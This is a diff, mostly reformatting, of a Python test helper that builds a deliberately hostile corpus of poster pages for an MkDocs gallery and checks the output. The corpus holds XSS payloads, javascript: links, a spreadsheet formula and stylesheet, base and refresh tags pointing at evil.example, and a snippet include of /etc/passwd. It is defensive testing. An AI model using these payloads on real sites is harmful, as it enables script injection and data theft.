@@ -5,6 +5,7 @@ Every payload that could run a script sets ``window.__pwned``; every one that co
 points at ``evil.example``; so the browser test only has to look for that variable, dialogs, and
 requests to another host.
 """
+
 from __future__ import annotations
 
 import json
@@ -16,32 +17,32 @@ from pathlib import Path
 from projectkit import SCRIPTS, Project
 
 PAYLOADS = (
-    '<script>window.__pwned=1</script>',
+    "<script>window.__pwned=1</script>",
     '<img src=x onerror="window.__pwned=2">',
     '"><svg onload=window.__pwned=3>',
     "'><iframe srcdoc='<script>parent.__pwned=4</script>'>",
-    '</title><script>window.__pwned=5</script>',
-    '</script><script>window.__pwned=6</script>',
-    '<!-- --!><script>window.__pwned=7</script>',
+    "</title><script>window.__pwned=5</script>",
+    "</script><script>window.__pwned=6</script>",
+    "<!-- --!><script>window.__pwned=7</script>",
     '<a href="javascript:window.__pwned=8">klik</a>',
     '[klik](javascript:window.__pwned=9) ![x](x" onerror="window.__pwned=10)',
-    '<details open ontoggle=window.__pwned=11>',
+    "<details open ontoggle=window.__pwned=11>",
     '{: onclick="window.__pwned=12" } {#id .cls}',
     '--8<-- "/etc/passwd"',
     '{{ config.site_name }} {% include "x" %} {# c #}',
-    '--- ... *** ___',
-    '&lt;script&gt; &amp; &#60;b&#62; &#x3C;i&#x3E;',
-    'data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19wd25lZD0xMzwvc2NyaXB0Pg==',
+    "--- ... *** ___",
+    "&lt;script&gt; &amp; &#60;b&#62; &#x3C;i&#x3E;",
+    "data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19wd25lZD0xMzwvc2NyaXB0Pg==",
     '=HYPERLINK("https://evil.example/?x="&A1,"klik") +1 -1 @SUM(1)',
-    '\u202eevil\u202c zero\u200bwidth \u2028 line',
-    '`code` *em* __strong__ <b>b</b> | pipe | # hash',
-    ':smile: @mention https://evil.example/ www.evil.example',
-    '<style>body{background:url(https://evil.example/x)}</style>',
-    '<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned=14>',
+    "\u202eevil\u202c zero\u200bwidth \u2028 line",
+    "`code` *em* __strong__ <b>b</b> | pipe | # hash",
+    ":smile: @mention https://evil.example/ www.evil.example",
+    "<style>body{background:url(https://evil.example/x)}</style>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned=14>",
     '<base href="https://evil.example/">',
     '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
-    '<link rel=stylesheet href=https://evil.example/x.css>',
-    '${alert(1)} `${window.__pwned=15}` \\u003cscript\\u003e',
+    "<link rel=stylesheet href=https://evil.example/x.css>",
+    "${alert(1)} `${window.__pwned=15}` \\u003cscript\\u003e",
     '<object data="javascript:window.__pwned=16"></object>',
     "javascript:window.__pwned=17//https://example.org/",
 )
@@ -66,10 +67,14 @@ def hostile_values(i: int) -> dict:
         "program": _cut(p[4], LIMITS["program"]),
         "date": f"2024-01-{i % 28 + 1:02d}",
         # Front-matter delimiters and snippet lines on lines of their own, between paragraphs.
-        "summary": f"{p[5]}\n\n---\n\n--8<-- \"/etc/passwd\"\n\n{{% raw %}}\n\n{p[6]}"[:600],
+        "summary": f'{p[5]}\n\n---\n\n--8<-- "/etc/passwd"\n\n{{% raw %}}\n\n{p[6]}'[:600],
         "tags": [_cut(p[6], LIMITS["tag"] - 4) + f" t{i}", _cut(p[7], LIMITS["tag"] - 4) + f" u{i}"],
-        "links": [{"label": _cut(p[7], LIMITS["label"]),
-                   "url": f"https://example.org/javascript:alert({i})?q=%3Cscript%3E&x=1#frag"}],
+        "links": [
+            {
+                "label": _cut(p[7], LIMITS["label"]),
+                "url": f"https://example.org/javascript:alert({i})?q=%3Cscript%3E&x=1#frag",
+            }
+        ],
     }
 
 
@@ -106,8 +111,9 @@ def write_hostile_corpus(project: Project) -> dict[str, dict]:
     for i in range(len(PAYLOADS)):
         slug = f"hostile-{i:02d}"
         values = hostile_values(i)
-        project.add_poster(slug, json.dumps(values, ensure_ascii=True) + "\n",
-                           colour=(40 + 7 * i, 200 - 5 * i, 90))  # JSON is YAML
+        project.add_poster(
+            slug, json.dumps(values, ensure_ascii=True) + "\n", colour=(40 + 7 * i, 200 - 5 * i, 90)
+        )  # JSON is YAML
         corpus[slug] = values
     project.add_poster("hand-written", HAND_WRITTEN_POSTER, colour=(10, 10, 10))
     corpus["hand-written"] = None
@@ -168,8 +174,9 @@ not_in_nav: |
 def nav_posters(slugs) -> str:
     """Poster pages added to the navigation without a title: Material shows their own (hostile) titles there."""
     entries = "".join(f"      - poster/{slug}/index.md\n" for slug in slugs)
-    return HOSTILE_EXTENSIONS.replace("  - Snippets: snippet-check.md\n",
-                                      "  - Snippets: snippet-check.md\n  - Poster:\n" + entries)
+    return HOSTILE_EXTENSIONS.replace(
+        "  - Snippets: snippet-check.md\n", "  - Snippets: snippet-check.md\n  - Poster:\n" + entries
+    )
 
 
 # A page the site owner wrote, using snippets on purpose: proof that the extension is live.
@@ -197,8 +204,11 @@ def pdf_bytes(pages: int = 1, box=(0, 0, 595, 842)) -> bytes:
     """A minimal PDF: ``pages`` pages of size ``box`` (points) sharing one small drawing."""
     content = b"0 0 1 rg 0 0 100 100 re f"
     kids = " ".join(f"{4 + i} 0 R" for i in range(pages))
-    objects = [b"<< /Type /Catalog /Pages 2 0 R >>", f"<< /Type /Pages /Kids [{kids}] /Count {pages} >>".encode(),
-               b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream"]
+    objects = [
+        b"<< /Type /Catalog /Pages 2 0 R >>",
+        f"<< /Type /Pages /Kids [{kids}] /Count {pages} >>".encode(),
+        b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream",
+    ]
     page = f"<< /Type /Page /Parent 2 0 R /MediaBox [{' '.join(map(str, box))}] /Contents 3 0 R >>".encode()
     objects += [page] * pages
     out = bytearray(b"%PDF-1.4\n")
@@ -222,16 +232,19 @@ def write_many_posters(root: Path, count: int, bad_every: int = 0, summary: str 
         (folder / "poster.yml").write_text(
             f"title: Poster {i} tentang las dan keselamatan kerja\nauthors:\n  - Peserta {i}\n  - Rekan {i % 7}\n"
             f"role: {role}\ncenter: BPVP {i % 40}\nalt: Poster dengan judul, foto dan grafik.\n"
-            + (f"summary: {summary}\n" if summary else "") + f"tags: [las, k3, topik {i % 9}]\n", "utf-8")
+            + (f"summary: {summary}\n" if summary else "")
+            + f"tags: [las, k3, topik {i % 9}]\n",
+            "utf-8",
+        )
         (folder / "poster.jpg").write_bytes(b"\xff\xd8\xff\xe0 stand-in")
 
 
 def build_hostile_project(root: Path) -> tuple[Project, dict]:
     """The hostile corpus with every feature on, counted and built: ``mkdocs build --strict`` into site/."""
+    from postergallery.build import reserved_slugs
     from postergallery.commands import codes as ballot_codes
     from postergallery.commands import tally
     from postergallery.i18n import Translator
-    from postergallery.build import reserved_slugs
     from postergallery.stages.load import load_posters
 
     project = Project(root)
@@ -243,17 +256,30 @@ def build_hostile_project(root: Path) -> tuple[Project, dict]:
     posters, _ = load_posters(settings.root, settings.posters, tr, reserved=reserved_slugs())
     codes = ballot_codes.make_codes(10)
     export = hostile_export([p.slug for p in posters], codes)
-    result = tally.count_votes(export, settings.vote, posters, tr, valid_codes=set(codes),
-                               export_name="<img src=x onerror=window.__pwned=41>.csv")
+    result = tally.count_votes(
+        export,
+        settings.vote,
+        posters,
+        tr,
+        valid_codes=set(codes),
+        export_name="<img src=x onerror=window.__pwned=41>.csv",
+    )
     tally.write_results(result, settings.vote, project.root / "results", tr)
     env = dict(os.environ, NO_MKDOCS_2_WARNING="1")
-    proc = subprocess.run([sys.executable, "-m", "mkdocs", "build", "--strict"], cwd=project.root,
-                          capture_output=True, text=True, env=env)
+    proc = subprocess.run(
+        [sys.executable, "-m", "mkdocs", "build", "--strict"], cwd=project.root, capture_output=True, text=True, env=env
+    )
     assert proc.returncode == 0, proc.stdout + proc.stderr
     return project, corpus
 
 
 def gallery_cli(project: Project, *args: str) -> subprocess.CompletedProcess:
     env = dict(os.environ, NO_MKDOCS_2_WARNING="1")
-    return subprocess.run([sys.executable, str(SCRIPTS / "gallery.py"), "--config", str(project.config), *args],
-                          cwd=project.root, capture_output=True, text=True, env=env, timeout=300)
+    return subprocess.run(
+        [sys.executable, str(SCRIPTS / "gallery.py"), "--config", str(project.config), *args],
+        cwd=project.root,
+        capture_output=True,
+        text=True,
+        env=env,
+        timeout=300,
+    )
